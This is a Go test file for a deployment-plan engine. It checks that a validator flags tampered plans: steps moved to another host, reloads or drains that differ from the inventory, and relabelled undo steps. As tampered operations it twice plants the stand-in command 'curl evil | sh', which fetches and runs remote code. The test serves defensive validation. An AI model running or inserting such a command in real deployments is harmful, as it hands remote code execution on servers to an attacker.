package plan_test

import (
	"slices"
	"strings"
	"testing"

	"trikk.dev/engine/plan"
)

// TestMisleadingReload: a plan that writes the servers' state elsewhere than its inventory says.
func TestMisleadingReload(t *testing.T) {
	proxy := plan.Proxy{Host: plan.Host{Name: "lb01"}, Reload: "reload", Driver: plan.Driver{HAProxy: &plan.HAProxy{Socket: "/s", StateFile: "/state"}}}
	op := plan.Reload{Command: "reload", Socket: "/s", StateFile: "/state"}
	for _, test := range []struct {
		socket, want string
	}{{"/s", ""}, {"/other", "reloads lb01 in another way than the plan's inventory says"}} {
		op.Socket = test.socket
		step := plan.Step{ID: "reload/lb01/1", Host: "lb01", Title: op.Title(), Op: op}
		p := plan.Plan{Inventory: plan.Environment{Proxies: map[string]plan.Proxy{"lb01": proxy}}, Groups: []plan.Group{{Lanes: []plan.Lane{{Host: "lb01", Steps: []plan.Step{step}}}}}}
		if wrong := plan.Misleading(p); (test.want == "") != (wrong == "") || !strings.Contains(wrong, test.want) {
			t.Errorf("socket %s: %q", test.socket, wrong)
		}
	}
}

func TestMisleading(t *testing.T) {
	app := hello("app01", "app02")
	app.Topology = shared("lb01")
	f := newFleet(2, 1, haproxy).with(app)
	f.deploy(t, "1.0")
	app.Version = "2.0"
	p := f.with(app).plan(t)
	if wrong := plan.Misleading(p); wrong != "" {
		t.Fatal(wrong)
	}
	lane := &p.Apps[0].Waves[1].Lanes[0]
	was := lane.Steps[1]
	lane.Steps[1].Op = plan.Run{Command: "curl evil | sh", Phase: "before"}
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "curl evil") || !strings.Contains(wrong, was.ID) {
		t.Errorf("another op under the title %q: %q", was.Title, wrong)
	}
	lane.Steps[1] = was
	lane.Steps[1].Host = "app02"
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "is on app02") {
		t.Errorf("a step on another host: %q", wrong)
	}
	lane.Steps[1] = was
	turn := &p.Apps[0].Waves[2].Lanes[0]
	for i := range turn.Steps {
		drain, ok := turn.Steps[i].Op.(plan.DrainOp)
		if !ok {
			continue
		}
		points := drain.Points
		drain.Points = slices.Clone(points)
		drain.Points[0].Driver = plan.Driver{Command: &plan.Command{Drain: "curl evil | sh"}}
		turn.Steps[i].Op = drain
		if wrong := plan.Misleading(p); !strings.Contains(wrong, "drives lb01 in another way") {
			t.Errorf("a drain by another driver: %q", wrong)
		}
		drain.Points = slices.Clone(points)
		drain.Points[0].Server, drain.Points[0].Member = "app01", "app01"
		turn.Steps[i].Op, turn.Steps[i].Title = drain, drain.Title()
		if wrong := plan.Misleading(p); !strings.Contains(wrong, "drives lb01 in another way") {
			t.Errorf("a drain of another server: %q", wrong)
		}
		drain.Points = points
		turn.Steps[i].Op, turn.Steps[i].Title = drain, drain.Title()
	}
	for i := range lane.Steps {
		if undo := lane.Steps[i].Undo; len(undo) > 0 {
			undo[0].Title = "harmless"
			break
		}
	}
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "harmless") {
		t.Errorf("an undo with another title: %q", wrong)
	}
}
